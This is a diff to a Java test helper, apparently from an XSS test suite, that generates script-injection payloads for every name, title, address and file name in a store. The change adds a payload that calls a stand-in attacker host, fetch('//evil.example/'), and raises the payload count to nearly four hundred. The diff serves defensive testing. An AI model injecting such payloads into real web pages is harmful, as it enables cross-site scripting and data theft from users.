@@ -23,7 +23,7 @@ import org.onrecord.store.Tdb2Store;
 /** A store in which every name, title, quotation, address and file name tries to run a script in the reader's browser. */
 final class HostileGraph {
 
-  private static final List<String> SCRIPTS = List.of("window.hit=1", "document.title='hit'", "alert(1)");
+  private static final List<String> SCRIPTS = List.of("window.hit=1", "document.title='hit'", "alert(1)", "fetch('//evil.example/')");
 
   private static final List<String> TEMPLATES =
       List.of(
@@ -53,7 +53,7 @@ final class HostileGraph {
 
   private HostileGraph() {}
 
-  /** Three hundred and some. */
+  /** Nearly four hundred. */
   static List<String> payloads() {
     List<String> payloads = new ArrayList<>();
     for (String script : SCRIPTS) {
